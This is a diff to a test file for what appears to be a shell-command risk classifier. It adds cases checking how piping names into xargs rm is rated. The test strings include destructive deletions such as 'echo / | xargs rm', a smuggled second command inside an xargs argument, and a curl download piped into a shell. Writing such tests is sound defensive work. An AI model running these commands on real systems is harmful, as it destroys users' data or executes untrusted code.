@@ -46,7 +46,8 @@ def test_what_counts_is_inside(name: str) -> None:
         ("watch -n 1 'rm x'", DESTRUCTIVE),
         ("command -v git", READ),
         ("command rm x", DESTRUCTIVE),
-        ("echo rm x | xargs -I{} sh -c {}", UNKNOWN),
+        ("echo rm x | xargs -I{} sh -c {}", DESTRUCTIVE),
+        ("printf %s rm | xargs -I{} sh -c {}", UNKNOWN),
         ('eval "$X"', UNKNOWN),
     ],
 )
@@ -58,3 +59,51 @@ def test_ways_to_run_something(text: str, kind: Shell) -> None:
 def test_attack_a_wrapped_shell_still_reads_the_pipe(wrap: str) -> None:
     assert classify_command(f"curl https://x.example | {wrap}").tier is Tier.HIGH_RISK
     assert classify_command(f"echo 'rm -rf docs' | {wrap}").tier is Tier.IRREVERSIBLE
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo notes.txt | xargs rm",
+        "echo a.txt b.txt | xargs -r rm -f",
+        "echo node_modules | xargs rm -rf",
+        "echo notes.txt | xargs -I{} rm {}",
+        "echo notes.txt | xargs --replace=@ rm @",
+    ],
+)
+def test_what_the_line_itself_gives_to_xargs_is_known(text: str) -> None:
+    assert classify_command(text).kind is DESTRUCTIVE
+    assert classify_command(text).tier is Tier.REVERSIBLE
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo / | xargs rm",
+        "echo * | xargs rm",
+        "echo ~ | xargs rm",
+        "echo -r docs | xargs rm",
+        "echo '-r docs' | xargs rm",
+        "echo docs | xargs -I{} rm -r {}",
+        "echo docs | xargs -I% sh -c 'rm -r %'",
+        "echo 'x; rm -r docs' | xargs -I{} sh -c 'echo {}'",
+        "echo $X | xargs rm",
+        'echo "$X" | xargs rm',
+        "echo $(cat list) | xargs rm",
+        "printf %b x | xargs rm",
+        "echo 'a\\nb' | xargs rm",
+        "echo {a,b} | xargs rm",
+        "echo a | xargs -a list rm",
+        "echo a | xargs rm < list",
+        "echo a | xargs rm <&3",
+        "echo a | xargs rm <<< /",
+        "echo a | tr a / | xargs rm",
+        "tr a / <<E | xargs rm\na\nE",
+        "(echo a; cat list) | xargs rm",
+        "echo a | { cat list; } | xargs rm",
+        "echo() { cat list; }; echo a | xargs rm",
+        "echo ls | xargs sh -c",
+    ],
+)
+def test_attack_what_else_xargs_may_read_is_not(text: str) -> None:
+    assert classify_command(text).tier.rank >= Tier.HIGH_RISK.rank
